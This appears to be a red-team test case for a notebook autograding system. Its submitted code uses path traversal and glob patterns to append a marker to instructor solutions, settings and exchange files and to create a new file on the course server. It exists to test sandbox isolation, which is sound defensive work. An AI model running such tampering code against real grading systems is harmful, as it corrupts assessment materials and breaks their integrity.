"""The solutions, the settings and the instructor's notebook are changed.

Success: the attack leaves a trace.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import glob
        for pattern in ("../../../*.py", "/srv/course/*.py", "/srv/course/source/*/*",
                        "/srv/course/release/*/*", "/srv/exchange/*/*/*"):
            for path in glob.glob(pattern):
                try:
                    open(path, "a").write("# red-team-was-here\\n")
                except OSError as error:
                    print(error)
        try:
            open("/srv/course/random.py", "w").write("# red-team-was-here\\n")
        except OSError as error:
            print(error)
    """)
